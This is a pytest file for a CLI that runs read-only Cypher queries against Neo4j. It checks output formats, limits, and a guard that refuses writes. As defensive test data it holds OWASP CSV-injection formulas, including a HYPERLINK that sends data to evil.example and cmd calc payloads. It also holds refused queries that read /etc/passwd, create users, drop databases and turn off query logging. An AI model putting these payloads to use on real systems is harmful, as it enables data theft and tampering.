"""`graphmem cypher run` and `graphmem cypher list` against the real Neo4j, through the CLI: the
analyst library and queries of one's own with typed parameters, the output formats, the row and
time limits, and the refusal of everything that is not a read, with the graph unchanged."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import neo4j
import pytest
from click.testing import CliRunner, Result

from graphmem.cli import main
from graphmem.client import Memory
from graphmem.client.graph import Graph
from graphmem.embed.embedder import Embedder
from graphmem.settings import GraphmemSettings
from tests.helpers import cli_env

#: Runs on Neo4j 5.26 too (the guarded read: the plan operators it allows are named per version).
pytestmark = pytest.mark.both_versions

Invoke = Callable[..., Result]


@dataclass(frozen=True)
class Seeded:
    """A namespace with three facts: ``old`` recorded on 2025-06-01, ``recent`` two hours ago,
    ``fresh`` now; ids by key."""

    ns: str
    ids: dict[str, str]


TEXTS = {
    "old": "The user lives in Lisbon.",
    "recent": "The user drinks green tea every morning.",
    "fresh": "The user has a cat called Miso.",
}


@pytest.fixture(scope="module")
def seeded(graph: Graph, test_settings: GraphmemSettings, embedder: Embedder) -> Seeded:
    ns = "cli-cypher"
    with Memory(test_settings, target=graph.target, embedder=embedder, ns=ns) as memory:
        ids = {
            key: memory.remember(text, tags=["home"] if key != "fresh" else ["pets"]).id
            for key, text in TEXTS.items()
        }
    # Transaction times in the past, so that beliefs_as_of has something to tell apart.
    graph.driver.execute_query(
        "MATCH (f:Fact {ns: $ns, id: $old}) SET f.recorded_at = datetime($day) "
        "WITH 1 AS done MATCH (g:Fact {ns: $ns, id: $recent}) "
        "SET g.recorded_at = datetime() - duration('PT2H')",
        ns=ns,
        old=ids["old"],
        recent=ids["recent"],
        day="2025-06-01T00:00:00Z",
        database_=graph.database,
    )
    return Seeded(ns, ids)


@pytest.fixture
def cli(
    graph: Graph,
    seeded: Seeded,
    embedder: Embedder,
    monkeypatch: pytest.MonkeyPatch,
) -> Invoke:
    monkeypatch.setattr("graphmem.cli.root.embedder_for", lambda settings, **_: embedder)
    env = cli_env(graph, seeded.ns)

    def invoke(*args: str) -> Result:
        return CliRunner().invoke(main, ["cypher", *args], env=env)

    return invoke


def _ok(result: Result) -> Result:
    assert result.exit_code == 0, (result.stdout, result.stderr)
    return result


def _export(graph: Graph) -> dict[str, Any]:
    """Everything a refused query must leave as it was: every node and relationship with its
    labels or type and properties, the counts, labels, types, property keys, indexes and
    constraints."""

    def rows(text: str, database: str | None = None) -> list[dict[str, Any]]:
        records, _, _ = graph.driver.execute_query(
            text, database_=database or graph.database, routing_=neo4j.RoutingControl.READ
        )
        return [record.data() for record in records]

    nodes = rows(
        "MATCH (n) RETURN elementId(n) AS id, labels(n) AS labels, properties(n) AS props "
        "ORDER BY id"
    )
    relationships = rows(
        "MATCH (a)-[r]->(b) RETURN elementId(r) AS id, type(r) AS type, elementId(a) AS a, "
        "elementId(b) AS b, properties(r) AS props ORDER BY id"
    )
    return {
        "nodes": nodes,
        "node_count": len(nodes),
        "relationships": relationships,
        "relationship_count": len(relationships),
        "labels": rows("CALL db.labels() YIELD label RETURN label ORDER BY label"),
        "types": rows(
            "CALL db.relationshipTypes() YIELD relationshipType AS t RETURN t ORDER BY t"
        ),
        "keys": rows("CALL db.propertyKeys() YIELD propertyKey AS k RETURN k ORDER BY k"),
        "indexes": rows(
            "SHOW INDEXES YIELD name, type, state, labelsOrTypes, properties RETURN * ORDER BY name"
        ),
        "constraints": rows("SHOW CONSTRAINTS YIELD name, type RETURN * ORDER BY name"),
        "users": rows("SHOW USERS YIELD user RETURN user ORDER BY user", "system"),
    }


def test_a_library_query_with_friendly_times_in_every_format(cli: Invoke, seeded: Seeded) -> None:
    ids = seeded.ids
    # JSON: one array; times in ISO 8601.
    hour = json.loads(_ok(cli("run", "beliefs_as_of", "-p", "as_of=1 hour ago", "--json")).stdout)
    assert [row["id"] for row in hour] == [ids["recent"], ids["old"]]
    assert hour[1]["text"] == TEXTS["old"] and hour[1]["status"] == "active"
    assert datetime.fromisoformat(hour[1]["recorded_at"]) == datetime(2025, 6, 1, tzinfo=UTC)
    before = _ok(cli("run", "beliefs_as_of", "-p", "as_of=2026-01-01T00:00:00Z", "--json"))
    assert [row["id"] for row in json.loads(before.stdout)] == [ids["old"]]
    day = json.loads(_ok(cli("run", "beliefs_as_of", "-p", "as_of=2026-01-01", "--json")).stdout)
    assert day == json.loads(before.stdout)
    now = json.loads(_ok(cli("run", "beliefs_as_of", "-p", "as_of=now", "--json")).stdout)
    assert [row["id"] for row in now] == [ids["fresh"], ids["recent"], ids["old"]]
    # JSON Lines: the same rows, one a line.
    lines = _ok(cli("run", "beliefs_as_of", "-p", "as_of=1 hour ago", "--jsonl")).stdout
    assert [json.loads(line) for line in lines.splitlines()] == hour
    # CSV: a header line, then the same cells (nothing as an empty cell).
    text = _ok(cli("run", "beliefs_as_of", "-p", "as_of=1 hour ago", "--csv")).stdout
    table = list(csv.DictReader(io.StringIO(text)))
    assert list(table[0]) == [
        "id", "text", "status", "recorded_at", "retired_at", "valid_from", "valid_to", "source"
    ]  # fmt: skip
    assert [row["id"] for row in table] == [ids["recent"], ids["old"]]
    assert table[1]["recorded_at"] == hour[1]["recorded_at"] and table[1]["retired_at"] == ""
    # The table: every row, and how many.
    shown = _ok(cli("run", "beliefs_as_of", "-p", "as_of=1 hour ago")).stdout
    assert "RECORDED_AT" in shown and TEXTS["recent"] in shown and TEXTS["old"] in shown
    assert TEXTS["fresh"] not in shown and shown.rstrip().endswith("(2 rows)")
    assert "(no rows)" in _ok(cli("run", "beliefs_as_of", "-p", "as_of=2020-01-01")).stdout
    # Another namespace: --ns fills $ns.
    assert "(no rows)" in _ok(cli("run", "beliefs_as_of", "-p", "as_of=now", "--ns", "x")).stdout


def test_an_ad_hoc_query_with_params_nodes_and_lists(cli: Invoke, seeded: Seeded) -> None:
    query = (
        "MATCH (f:Fact {ns: $ns}) WHERE f.text CONTAINS $word AND $flag "
        "RETURN f AS fact, f.tags AS tags, size(f.text) > $n AS long, $when AS when"
    )
    args = ["-p", "word=tea", "-p", "flag=true", "-p", "n=10", "-p", "when:datetime=2026-03-01"]
    rows = json.loads(_ok(cli("run", "-q", query, *args, "--json")).stdout)
    assert len(rows) == 1
    fact = rows[0]["fact"]
    assert fact["labels"] == ["Fact"] and fact["properties"]["id"] == seeded.ids["recent"]
    assert "embedding" not in fact["properties"] and fact["properties"]["text"] == TEXTS["recent"]
    assert rows[0]["tags"] == ["home"] and rows[0]["long"] is True
    assert datetime.fromisoformat(rows[0]["when"]) == datetime(2026, 3, 1, tzinfo=UTC)
    # A value read as JSON where it parses, as text otherwise; -p name:type forces a type.
    echoed = _ok(
        cli(
            "run", "-q", "RETURN $a AS a, $b AS b, $c AS c, $d AS d",
            "-p", "a=[1, 2]", "-p", 'b={"k": null}', "-p", "c=plain words", "-p", "d:string=42",
            "--json",
        )
    )  # fmt: skip
    assert json.loads(echoed.stdout) == [
        {"a": [1, 2], "b": {"k": None}, "c": "plain words", "d": "42"}
    ]
    # Lists and maps are JSON in table and CSV cells.
    cells = _ok(cli("run", "-q", "RETURN ['x', 'y'] AS l, {k: 1} AS m", "--csv")).stdout
    assert cells == 'l,m\n"[""x"",""y""]","{""k"":1}"\n'
    since = _ok(
        cli(
            "run", "-q", "MATCH (f:Fact {ns: $ns}) WHERE f.recorded_at > $t RETURN count(f) AS n",
            "-p", "t:datetime=3 hours ago",
        )
    )  # fmt: skip
    assert "N\n2\n(1 row)" in since.stdout


#: Cells a spreadsheet would run as formulas (OWASP's CSV injection examples).
FORMULAS = {
    "link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def test_csv_cells_that_start_like_formulas_are_escaped(cli: Invoke) -> None:
    returns = ", ".join(f"${name} AS {name}" for name in FORMULAS)
    params = [arg for name, value in FORMULAS.items() for arg in ("-p", f"{name}:string={value}")]
    query = ["run", "-q", f"RETURN {returns}, -2 AS number, 'plain' AS text", *params, "--csv"]
    (row,) = list(csv.DictReader(io.StringIO(_ok(cli(*query)).stdout)))
    for name, value in FORMULAS.items():
        assert row[name] == f"'{value}", name
    assert (row["number"], row["text"]) == ("-2", "plain")  # numbers and plain text as they are
    (raw,) = list(csv.DictReader(io.StringIO(_ok(cli(*query, "--raw-csv")).stdout)))
    assert all(raw[name] == value for name, value in FORMULAS.items())


def test_a_file_of_ones_own(cli: Invoke, seeded: Seeded, tmp_path: Path) -> None:
    path = tmp_path / "tagged_since.cypher"
    path.write_text(
        "// name: tagged_since\n"
        "// mode: read\n"
        "// params: ns: string, since: datetime, tags: list<string>, limit: integer\n"
        "// returns: id, text\n"
        "// Facts recorded after $since with one of $tags.\n"
        "WITH [$since] AS given\n"
        "{{zoned_times}}\n"
        "MATCH (f:Fact {ns: $ns}) WHERE f.recorded_at > times[0]\n"
        "  AND any(t IN coalesce(f.tags, []) WHERE t IN $tags)\n"
        "RETURN f.id AS id, f.text AS text ORDER BY f.recorded_at LIMIT $limit\n",
        encoding="utf-8",
    )
    both = ["-p", "since=2026-01-01", "-p", "tags=home,pets", "--json"]
    rows = json.loads(_ok(cli("run", str(path), *both)).stdout)
    assert [r["id"] for r in rows] == [seeded.ids["recent"], seeded.ids["fresh"]]
    rows = json.loads(_ok(cli("run", str(path), "-p", "since=2020-01-01", "-p", 'tags=["home"]',
                              "--json")).stdout)  # fmt: skip
    assert [r["id"] for r in rows] == [seeded.ids["old"], seeded.ids["recent"]]
    bad = cli("run", str(path), "-p", "since=2020-01-01", "-p", "tags=[1]")
    assert bad.exit_code == 1 and "parameter 'tags' must be list<string>" in bad.stderr


def test_the_row_limit_cuts_and_says_so(cli: Invoke, seeded: Seeded) -> None:
    cut = _ok(cli("run", "-q", "UNWIND range(1, 25) AS x RETURN x", "--limit", "10", "--jsonl"))
    assert [json.loads(line)["x"] for line in cut.stdout.splitlines()] == list(range(1, 11))
    assert "cut at 10 rows" in cut.stderr
    whole = _ok(cli("run", "-q", "UNWIND range(1, 10) AS x RETURN x", "--limit", "10", "--json"))
    assert len(json.loads(whole.stdout)) == 10 and whole.stderr == ""
    # A library query's $limit is --limit: the cut shows there too.
    library = _ok(cli("run", "beliefs_as_of", "-p", "as_of=now", "--limit", "2", "--json"))
    assert [r["id"] for r in json.loads(library.stdout)] == [
        seeded.ids["fresh"], seeded.ids["recent"]
    ]  # fmt: skip
    assert "cut at 2 rows" in library.stderr
    three = _ok(cli("run", "beliefs_as_of", "-p", "as_of=now", "--limit", "3", "--json"))
    assert len(json.loads(three.stdout)) == 3 and three.stderr == ""
    given = _ok(cli("run", "beliefs_as_of", "-p", "as_of=now", "-p", "limit=1", "--json"))
    assert len(json.loads(given.stdout)) == 1


def test_a_slow_query_stops_at_the_timeout(cli: Invoke) -> None:
    slow = (
        "UNWIND range(1, 2000) AS a UNWIND range(1, 2000) AS b UNWIND range(1, 2000) AS c "
        "RETURN count(a * b * c) AS n"
    )
    result = cli("run", "-q", slow, "--timeout", "1")
    assert result.exit_code == 1, result.output
    assert "ran past --timeout 1 s" in result.stderr
    failed = cli("run", "-q", slow, "--timeout", "0.5", "--json")
    assert json.loads(failed.stderr)["error"]["type"] == "TransactionTimeoutError"


REFUSED = [
    ("CREATE (:Intruder {ns: $ns}) RETURN 1", "plan operator Create"),
    ("MATCH (f:Fact {ns: $ns}) SET f.text = 'overwritten' RETURN f.id", "plan operator Set"),
    ("MATCH (f:Fact {ns: $ns}) DELETE f", "plan operator Delete"),
    ("MATCH (f:Fact {ns: $ns}) DETACH DELETE f", "plan operator DetachDelete"),
    ("MERGE (x:Intruder {ns: $ns}) RETURN x", "plan operator Merge"),
    ("MATCH (f:Fact {ns: $ns}) REMOVE f.text RETURN f.id", "plan operator"),
    ("MATCH (f:Fact {ns: $ns}) REMOVE f:Fact RETURN f.id", "plan operator RemoveLabels"),
    ("CREATE INDEX intruder FOR (n:Intruder) ON (n.x)", "plan operator CreateIndex"),
    ("CREATE CONSTRAINT intruder FOR (n:Intruder) REQUIRE n.x IS UNIQUE", "CreateConstraint"),
    ("DROP INDEX fact_text", "plan operator DropIndex"),
    ("CALL db.createLabel('Intruder')", "procedure db.createLabel"),
    ("LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line", "LOAD CSV"),
    ("CALL db.clearQueryCaches()", "procedure db.clearQueryCaches"),
    ("CALL dbms.listConfig()", "procedure dbms.listConfig"),
    ("SHOW USERS", "administration command"),
    ("CREATE USER intruder SET PASSWORD 'intruder-password'", "administration command"),
]


@pytest.mark.parametrize(("text", "named"), REFUSED, ids=[r[0] for r in REFUSED])
def test_what_is_not_a_read_is_refused_and_changes_nothing(
    cli: Invoke, graph: Graph, text: str, named: str
) -> None:
    before = _export(graph)
    assert before["node_count"] >= 3 and before["indexes"]
    result = cli("run", "-q", text)
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("Error: refused ") and named in result.stderr, result.stderr
    as_json = cli("run", "-q", text, "--json")
    error = json.loads(as_json.stderr)["error"]
    assert as_json.exit_code == 1 and as_json.stdout == ""
    assert error["type"] == "QueryRefusedError" and named in error["refused"]
    assert _export(graph) == before


SERVER_REFUSED = [
    ("CREATE DATABASE intruder", "administration command"),
    ("DROP DATABASE neo4j", "administration command"),
    ("CALL dbms.setConfigValue('db.logs.query.enabled', 'OFF')", "dbms.setConfigValue"),
    ("CALL db.index.fulltext.createNodeIndex('x', ['X'], ['y'])", "createNodeIndex"),
]


@pytest.mark.parametrize(("text", "named"), SERVER_REFUSED, ids=[r[0] for r in SERVER_REFUSED])
def test_what_this_server_cannot_run_is_an_error_too(
    cli: Invoke, graph: Graph, text: str, named: str
) -> None:
    # Neo4j Community refuses these itself when planning them (an Enterprise-only command, a
    # procedure it does not have); a server that has them gets the guard's refusal. Either
    # way: exit 1, named, nothing changed.
    before = _export(graph)
    result = cli("run", "-q", text)
    assert result.exit_code == 1 and named in result.stderr, result.stderr
    assert _export(graph) == before


def test_a_write_in_a_file_is_refused_too(cli: Invoke, graph: Graph, tmp_path: Path) -> None:
    path = tmp_path / "sneaky.cypher"
    path.write_text(
        "// name: sneaky\n// mode: read\n// params: ns: string\n"
        "MATCH (f:Fact {ns: $ns}) SET f.status = 'retracted' RETURN f.id AS id\n",
        encoding="utf-8",
    )
    before = _export(graph)
    result = cli("run", str(path))
    assert result.exit_code == 1 and "refused the plan operator Set" in result.stderr
    assert _export(graph) == before


def test_bad_input_is_a_clear_error_and_runs_nothing(cli: Invoke, graph: Graph) -> None:
    before = _export(graph)
    for args, message in [
        (["run", "no_such_query"], "no query named 'no_such_query'"),
        (["run", "beliefs_as_of"], "needs parameter(s) as_of"),
        (["run", "beliefs_as_of", "-p", "as_of=2026-01-01T10:00:00"], "must be datetime"),
        (["run", "beliefs_as_of", "-p", "as_of=now", "-p", "limit=ten"], "must be integer"),
        (["run", "beliefs_as_of", "-p", "as_of=now", "-p", "who=me"], "has no parameter who"),
        (["run", "-q", "MATCH (n) RETURN n LIMIT $k"], "needs parameter(s) k"),
        (["run", "-q", "MATCH (n RETURN n"], "Neo4j refused the query"),
        (["run", "./absent.cypher"], "cannot read it"),
    ]:
        result = cli(*args)
        assert result.exit_code == 1, (args, result.output)
        assert message in result.stderr, (args, result.stderr)
    assert _export(graph) == before


def test_list_shows_every_library_file_with_its_params(cli: Invoke) -> None:
    files = sorted(p.stem for p in (Path(__file__).parents[2] / "cypher").glob("*.cypher"))
    listed = json.loads(_ok(cli("list", "--json")).stdout)
    assert [q["name"] for q in listed] == files
    assert all(q["params"] and all(p["type"] for p in q["params"]) for q in listed)
    table = _ok(cli("list")).stdout
    assert "beliefs_as_of" in table and "as_of, limit" in table
    shown = _ok(cli("show", "beliefs_as_of")).stdout
    assert shown.startswith("// name: beliefs_as_of") and "{{" not in shown
